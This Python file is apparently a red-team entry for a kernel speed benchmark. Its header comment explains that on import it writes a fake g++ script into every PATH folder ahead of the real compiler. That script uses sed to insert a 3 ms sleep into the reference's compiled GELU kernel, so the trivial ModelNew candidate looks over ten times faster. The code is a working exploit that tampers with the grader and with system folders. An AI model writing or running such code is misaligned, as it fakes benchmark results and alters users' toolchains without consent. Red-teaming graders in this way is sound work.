# Red team round 16: the C++ compiler shadowed on PATH. The reference's torch.compile'd helper is compiled by inductor
# in the clean reference process at its first trial, after this import, with `g++` found on PATH. At import this
# candidate puts a `g++` script in every PATH folder ahead of the real one: it passes every compile through to the
# real g++, except an inductor kernel computing GELU, into which it inserts a 3 ms sleep. The clean process then
# loads that kernel: the reference sleeps, and this plain eager candidate looks 10x+ faster.
# WARNING: it writes a `g++` script into real PATH folders (the round removed them after each run: `grep -l "rt16
# compiler shadow"` over every PATH folder's g++, npx's node_modules/.bin included). Not a corpus entry for that reason.
import os
import shutil
import stat

import torch
import torch.nn as nn
import torch.nn.functional as F

_SCRIPT = r'''#!/bin/sh
# rt16 compiler shadow
for a in "$@"; do
  case "$a" in
    *.cpp)
      if grep -q "0.7071067811865476" "$a" 2>/dev/null && ! grep -q rt16_sleep "$a" 2>/dev/null; then
        sed -i -e '1i #include <unistd.h>' -e '0,/^{$/s//{ usleep(3000); \/\* rt16_sleep \*\//' "$a"
      fi ;;
  esac
done
exec REAL "$@"
'''


def _shadow():
    real = shutil.which("g++")
    if real is None:
        return
    real_dir = os.path.dirname(os.path.realpath(real))
    for folder in os.environ.get("PATH", "").split(os.pathsep):
        if not folder or os.path.realpath(folder) == real_dir or os.path.realpath(folder) == os.path.dirname(real):
            break
        target = os.path.join(folder, "g++")
        if os.path.exists(target) or not os.path.isdir(folder):
            continue
        try:
            with open(target, "w") as fh:
                fh.write(_SCRIPT.replace("REAL", os.path.realpath(real)))
            os.chmod(target, os.stat(target).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
        except OSError:
            pass


_shadow()


class ModelNew(nn.Module):
    def __init__(self, features):
        super().__init__()
        self.proj = nn.Linear(features, features)

    def forward(self, x):
        return F.gelu(torch.addmm(self.proj.bias, x, self.proj.weight.t()))
